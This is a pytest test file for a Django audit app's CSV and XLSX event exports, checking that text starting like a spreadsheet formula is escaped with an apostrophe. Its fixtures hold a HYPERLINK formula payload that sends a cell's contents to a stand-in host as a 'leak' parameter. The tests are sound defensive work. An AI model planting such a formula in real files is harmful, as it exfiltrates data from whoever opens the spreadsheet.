"""Exported text that a spreadsheet would run as a formula is written as plain text."""

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from audit import tasks
from audit.models import Export
from audit.selectors import EventFilters
from cases.timeline import Event
from units.spreadsheet import safe_cell

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://example.com/?leak="&A1,"Bấm vào đây")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_like_a_formula_gets_an_apostrophe(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Đơn khiếu nại", "", "a=b", 42, -3, None])
def test_other_values_are_left_alone(value):
    assert safe_cell(value) == value


@pytest.fixture
def titled_events(monkeypatch):
    """One event whose case, unit and summary carry a petition title written as a formula."""
    event = Event(
        at=dt.datetime(2026, 11, 20, 8, 30, tzinfo=dt.UTC),
        actor="@chuyenvien",
        kind="created",
        summary=LINK,
        reason="+84 987 654 321",
        case="-XA-0001",
        unit="=1+1",
    )

    class Events(list):
        def count(self):
            return len(self)

    monkeypatch.setattr(tasks, "events_across", lambda **kwargs: Events([event]))


def _export(auditor, fmt) -> Export:
    export = Export.objects.create(
        requested_by=auditor, format=fmt, filters=EventFilters().to_json()
    )
    tasks.export_events(export.pk)
    export.refresh_from_db()
    assert export.status == "done", export.error
    return export


def test_a_formula_title_comes_out_as_text_in_csv(titled_events, auditor, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    raw = _export(auditor, "csv").file.open("rb").read().decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(raw)))[1]
    assert row[1:3] == ["'-XA-0001", "'=1+1"]
    assert row[5:8] == ["'@chuyenvien", "'" + LINK, "'+84 987 654 321"]


def test_a_formula_title_comes_out_as_text_in_xlsx(titled_events, auditor, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    with _export(auditor, "xlsx").file.open("rb") as handle:
        sheet = load_workbook(handle).active
        cell = sheet.cell(row=2, column=7)
        assert cell.value == "'" + LINK
        assert cell.data_type == "s"
        assert sheet.cell(row=2, column=3).value == "'=1+1"


def test_a_real_export_escapes_a_reason_typed_as_a_formula(
    receive, drive, auditor, settings, tmp_path
):
    settings.MEDIA_ROOT = tmp_path
    drive(receive(title=LINK), answer=False, reason=LINK)
    raw = _export(auditor, "csv").file.open("rb").read().decode("utf-8-sig")
    reasons = [row[7] for row in csv.reader(io.StringIO(raw))]
    assert "'" + LINK in reasons
    assert LINK not in reasons
